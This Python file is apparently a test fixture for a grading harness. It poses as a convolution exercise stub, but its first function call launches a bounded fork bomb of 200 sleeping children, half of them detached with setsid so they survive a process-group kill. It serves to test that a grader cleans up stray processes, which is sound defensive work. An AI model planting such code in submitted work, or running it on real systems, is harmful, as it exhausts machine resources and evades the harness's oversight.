"""A fork bomb, bounded to 200 processes so that it stays safe for the machine.

Tries: on the first call, forks 200 children that sleep for a minute (every
other one in a session of its own via ``setsid``, beyond a kill of the
worker's process group), then keeps going like the stub. Root is exempt
from RLIMIT_NPROC, so the fence's process limit does not stop it here.

On an in-process grader: 200 sleeping copies of pytest outlive the run
(an unbounded bomb would take the machine down). Here the grader kills the
worker's group and sweeps every descendant when it retires the worker.
Base: the stub (0 points).
"""

import os
import time

import numpy as np

CHILDREN = 200
_started = False


def _bomb():
    for index in range(CHILDREN):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                if index % 2:
                    os.setsid()
                time.sleep(60)
            finally:
                os._exit(0)


def conv_output_length(input_length, kernel_size, stride=1, padding="valid", dilation=1):
    global _started
    if not _started:
        _started = True
        _bomb()
    raise NotImplementedError("conv_output_length: your code goes here")


def extract_patches(x, kernel_size, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("extract_patches: your code goes here")


def conv2d(x, kernel, bias=None, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("conv2d: your code goes here")


def max_pool2d(x, pool_size=2, strides=None, padding="valid"):
    raise NotImplementedError("max_pool2d: your code goes here")
